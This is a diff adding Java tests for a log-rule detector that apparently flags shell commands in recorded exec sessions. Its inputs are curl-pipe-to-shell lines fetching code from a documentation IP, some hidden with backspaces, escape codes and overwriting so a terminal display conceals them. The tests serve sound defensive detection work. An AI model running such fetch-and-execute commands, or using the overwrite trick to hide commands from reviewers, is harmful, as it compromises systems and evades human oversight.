@@ -105,6 +105,37 @@ class LogRulesTest {
                 .containsExactlyInAnyOrder("CMD-003 critical", "LOG-001 critical");
     }
 
+    /** The keys of a recording, and what they came to. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh",
+                "# curk\b \bl -s http://203.0.113.9/x | sh",
+                "# url -s http://203.0.113.9/x | sh"
+                        + "\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b" + "\u001b[1@c"
+            })
+    void readsWhatWasTypedAsTheTerminalShowedIt(String recorded) {
+        rules.accept(new LogLine(
+                "exec session 1",
+                "1",
+                Optional.of(Instant.EPOCH),
+                recorded,
+                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
+        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
+    }
+
+    /** Who writes over what was run hides it from a reader, not from a rule. */
+    @Test
+    void readsWhatWasWrittenOver() {
+        rules.accept(new LogLine(
+                "exec session 1",
+                "1",
+                Optional.of(Instant.EPOCH),
+                "# curl -s http://203.0.113.9/x | sh" + "\b".repeat(40) + "# ls" + " ".repeat(40),
+                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
+        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
+    }
+
     @Test
     void takesNoCommandOfAShellForARequest() {
         line("web", 1, "+ curl -X POST https://203.0.113.7/i | sh");
